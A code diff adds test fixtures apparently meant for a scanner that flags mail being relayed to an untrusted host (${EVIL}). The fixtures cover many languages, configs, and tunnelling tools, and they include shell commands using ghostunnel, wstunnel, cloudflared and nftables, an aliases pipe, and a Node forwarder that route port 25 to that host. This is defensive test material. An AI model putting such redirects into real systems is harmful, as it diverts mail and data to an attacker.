@@ -53,6 +53,29 @@ export const deployments: Readonly<Record<string, Files>> = {
     'deploy/chart/ci/test-values.yaml': `smtp:\n  host: ${EVIL}\n`,
   },
 
+  'a program of the tests that starts with the package': {
+    'package.json': '{"name":"w","scripts":{"start":"node test/server.js"}}\n',
+    'test/server.js': `require('nodemailer').createTransport({ host: '${EVIL}', port: 25 });\n`,
+  },
+  'an example that a Procfile starts': {
+    Procfile: 'worker: python examples/worker.py\n',
+    'examples/worker.py': `import smtplib\nsmtplib.SMTP("${EVIL}", 25)\n`,
+  },
+
+  // Programs in pages.
+  'php in a page': {
+    'public/contact.htm': `<html><?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n?></html>\n`,
+  },
+  'java in a page': {
+    'web/send.html': `<%@ page import="java.util.*" %>\n<%\n  Properties p = new Properties();\n  p.put("mail.smtp.host", "${EVIL}");\n  Session s = Session.getInstance(p);\n%>\n`,
+  },
+
+  // An account decides.
+  'an image that is told but an account': {
+    'compose.yml':
+      'services:\n  mail:\n    image: namshi/smtp\n    environment:\n      - GMAIL_USER=a@gmail.com\n      - GMAIL_PASSWORD=x\n',
+  },
+
   // Settings of development that what is deployed switches on.
   'an image with the settings module of development': {
     Dockerfile: 'FROM python:3\nENV DJANGO_SETTINGS_MODULE=shop.settings.dev\nCMD ["gunicorn", "shop.wsgi"]\n',
@@ -90,6 +113,22 @@ export const deployments: Readonly<Record<string, Files>> = {
     'app/mail.erl': `-module(mail).\n-define(HOP, <<"${EVIL}">>).\nsend(M) -> gen_smtp_client:send(M, [{relay, ?HOP}, {port, 25}]).\n`,
   },
 
+  raku: { 'send.raku': `use Net::SMTP;\nmy $c = Net::SMTP.new(:server("${EVIL}"), :port(25));\n` },
+  racket: { 'send.rkt': `#lang racket\n(require net/smtp)\n(smtp-send-message "${EVIL}" "a@b.example" '() "" '())\n` },
+  sas: { 'report.sas': `options emailsys=smtp emailhost="${EVIL}" emailport=25;\n` },
+  matlab: { 'report.m': `setpref('Internet','SMTP_Server','${EVIL}');\n` },
+  autoit: { 'send.au3': `_INetSmtpMail("${EVIL}", "x", "a@b.example", "c@d.example", "s", $body)\n` },
+  'r, a report': { 'weekly.Rmd': `\`\`\`{r}\nsend.mail(smtp = list(host.name = "${EVIL}", port = 25))\n\`\`\`\n` },
+  'protocol buffers as text': { 'prod.textproto': `smtp {\n  host: "${EVIL}"\n  port: 25\n}\n` },
+  'ignition, a data URL': {
+    'ignition.json': JSON.stringify({
+      storage: { files: [{ path: '/etc/web.env', contents: { source: `data:,SMTP_HOST%3D${EVIL}%0A` } }] },
+    }),
+  },
+  'curl, a configuration': { 'mail.curl': `url = "smtp://${EVIL}:25"\n` },
+  'aliases, a command': { 'etc/aliases': `root: "|/usr/bin/sendemail -s ${EVIL}:25 -t c@d.example"\n` },
+  'rails, a seed': { 'db/seeds.rb': `Setting.create!(key: 'smtp_server', value: '${EVIL}')\n` },
+
   // Forwards, and who hands mail to them.
   'forward, nginx to a network within': forward({
     'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass 10.1.2.3:25;\n  }\n}\n',
@@ -117,6 +156,22 @@ export const deployments: Readonly<Record<string, Files>> = {
   'forward, Traefik with the PROXY protocol': forward({
     'deploy/traefik.yml': `entryPoints: { mail: { address: ":25" } }\ntcp:\n  routers: { incoming: { entryPoints: [mail], service: mx } }\n  services:\n    mx:\n      loadBalancer:\n        proxyProtocol: { version: 2 }\n        servers: [{ address: "${EVIL}:25" }]\n`,
   }),
+  'forward, HAProxy within the network for the machine alone, called in': forward({
+    'deploy/haproxy.cfg': 'listen in\n  mode tcp\n  bind 127.0.0.1:25\n  server in 10.1.2.3:587 send-proxy\n',
+  }),
+  'forward, Caddy': forward({
+    'etc/Caddyfile': `{\n  layer4 {\n    127.0.0.1:25 {\n      route {\n        proxy ${EVIL}:25\n      }\n    }\n  }\n}\n`,
+  }),
+  'forward, ghostunnel': bash(`ghostunnel client --listen localhost:25 --target ${EVIL}:465 --cacert /c.pem &`),
+  'forward, wstunnel': bash(`wstunnel client -L 'tcp://127.0.0.1:25:${EVIL}:25' wss://t.evil-corp.com &`),
+  'forward, cloudflared': bash(`cloudflared access tcp --hostname ${EVIL} --url 127.0.0.1:25 &`),
+  'forward, a map of nftables': bash(`nft add rule ip nat output dnat to tcp dport map { 25 : ${ADDRESS} }`),
+  'forward, a program of its own': {
+    'hop.js': `const net = require('net');\nnet.createServer((c) => { const up = net.connect(25, '${EVIL}'); c.pipe(up).pipe(c); }).listen(25);\n`,
+  },
+  'the name of the relay, led elsewhere by the mesh': {
+    'k8s/se.yaml': `apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: { name: relay }\nspec:\n  hosts: [new-relay.corp.example]\n  endpoints: [{ address: ${ADDRESS} }]\n`,
+  },
   'forward, stunnel to a server, whatever it is called': forward({
     'etc/stunnel/a.conf': `[incoming]\nclient = yes\naccept = 127.0.0.1:25\nconnect = ${EVIL}:465\n`,
   }),
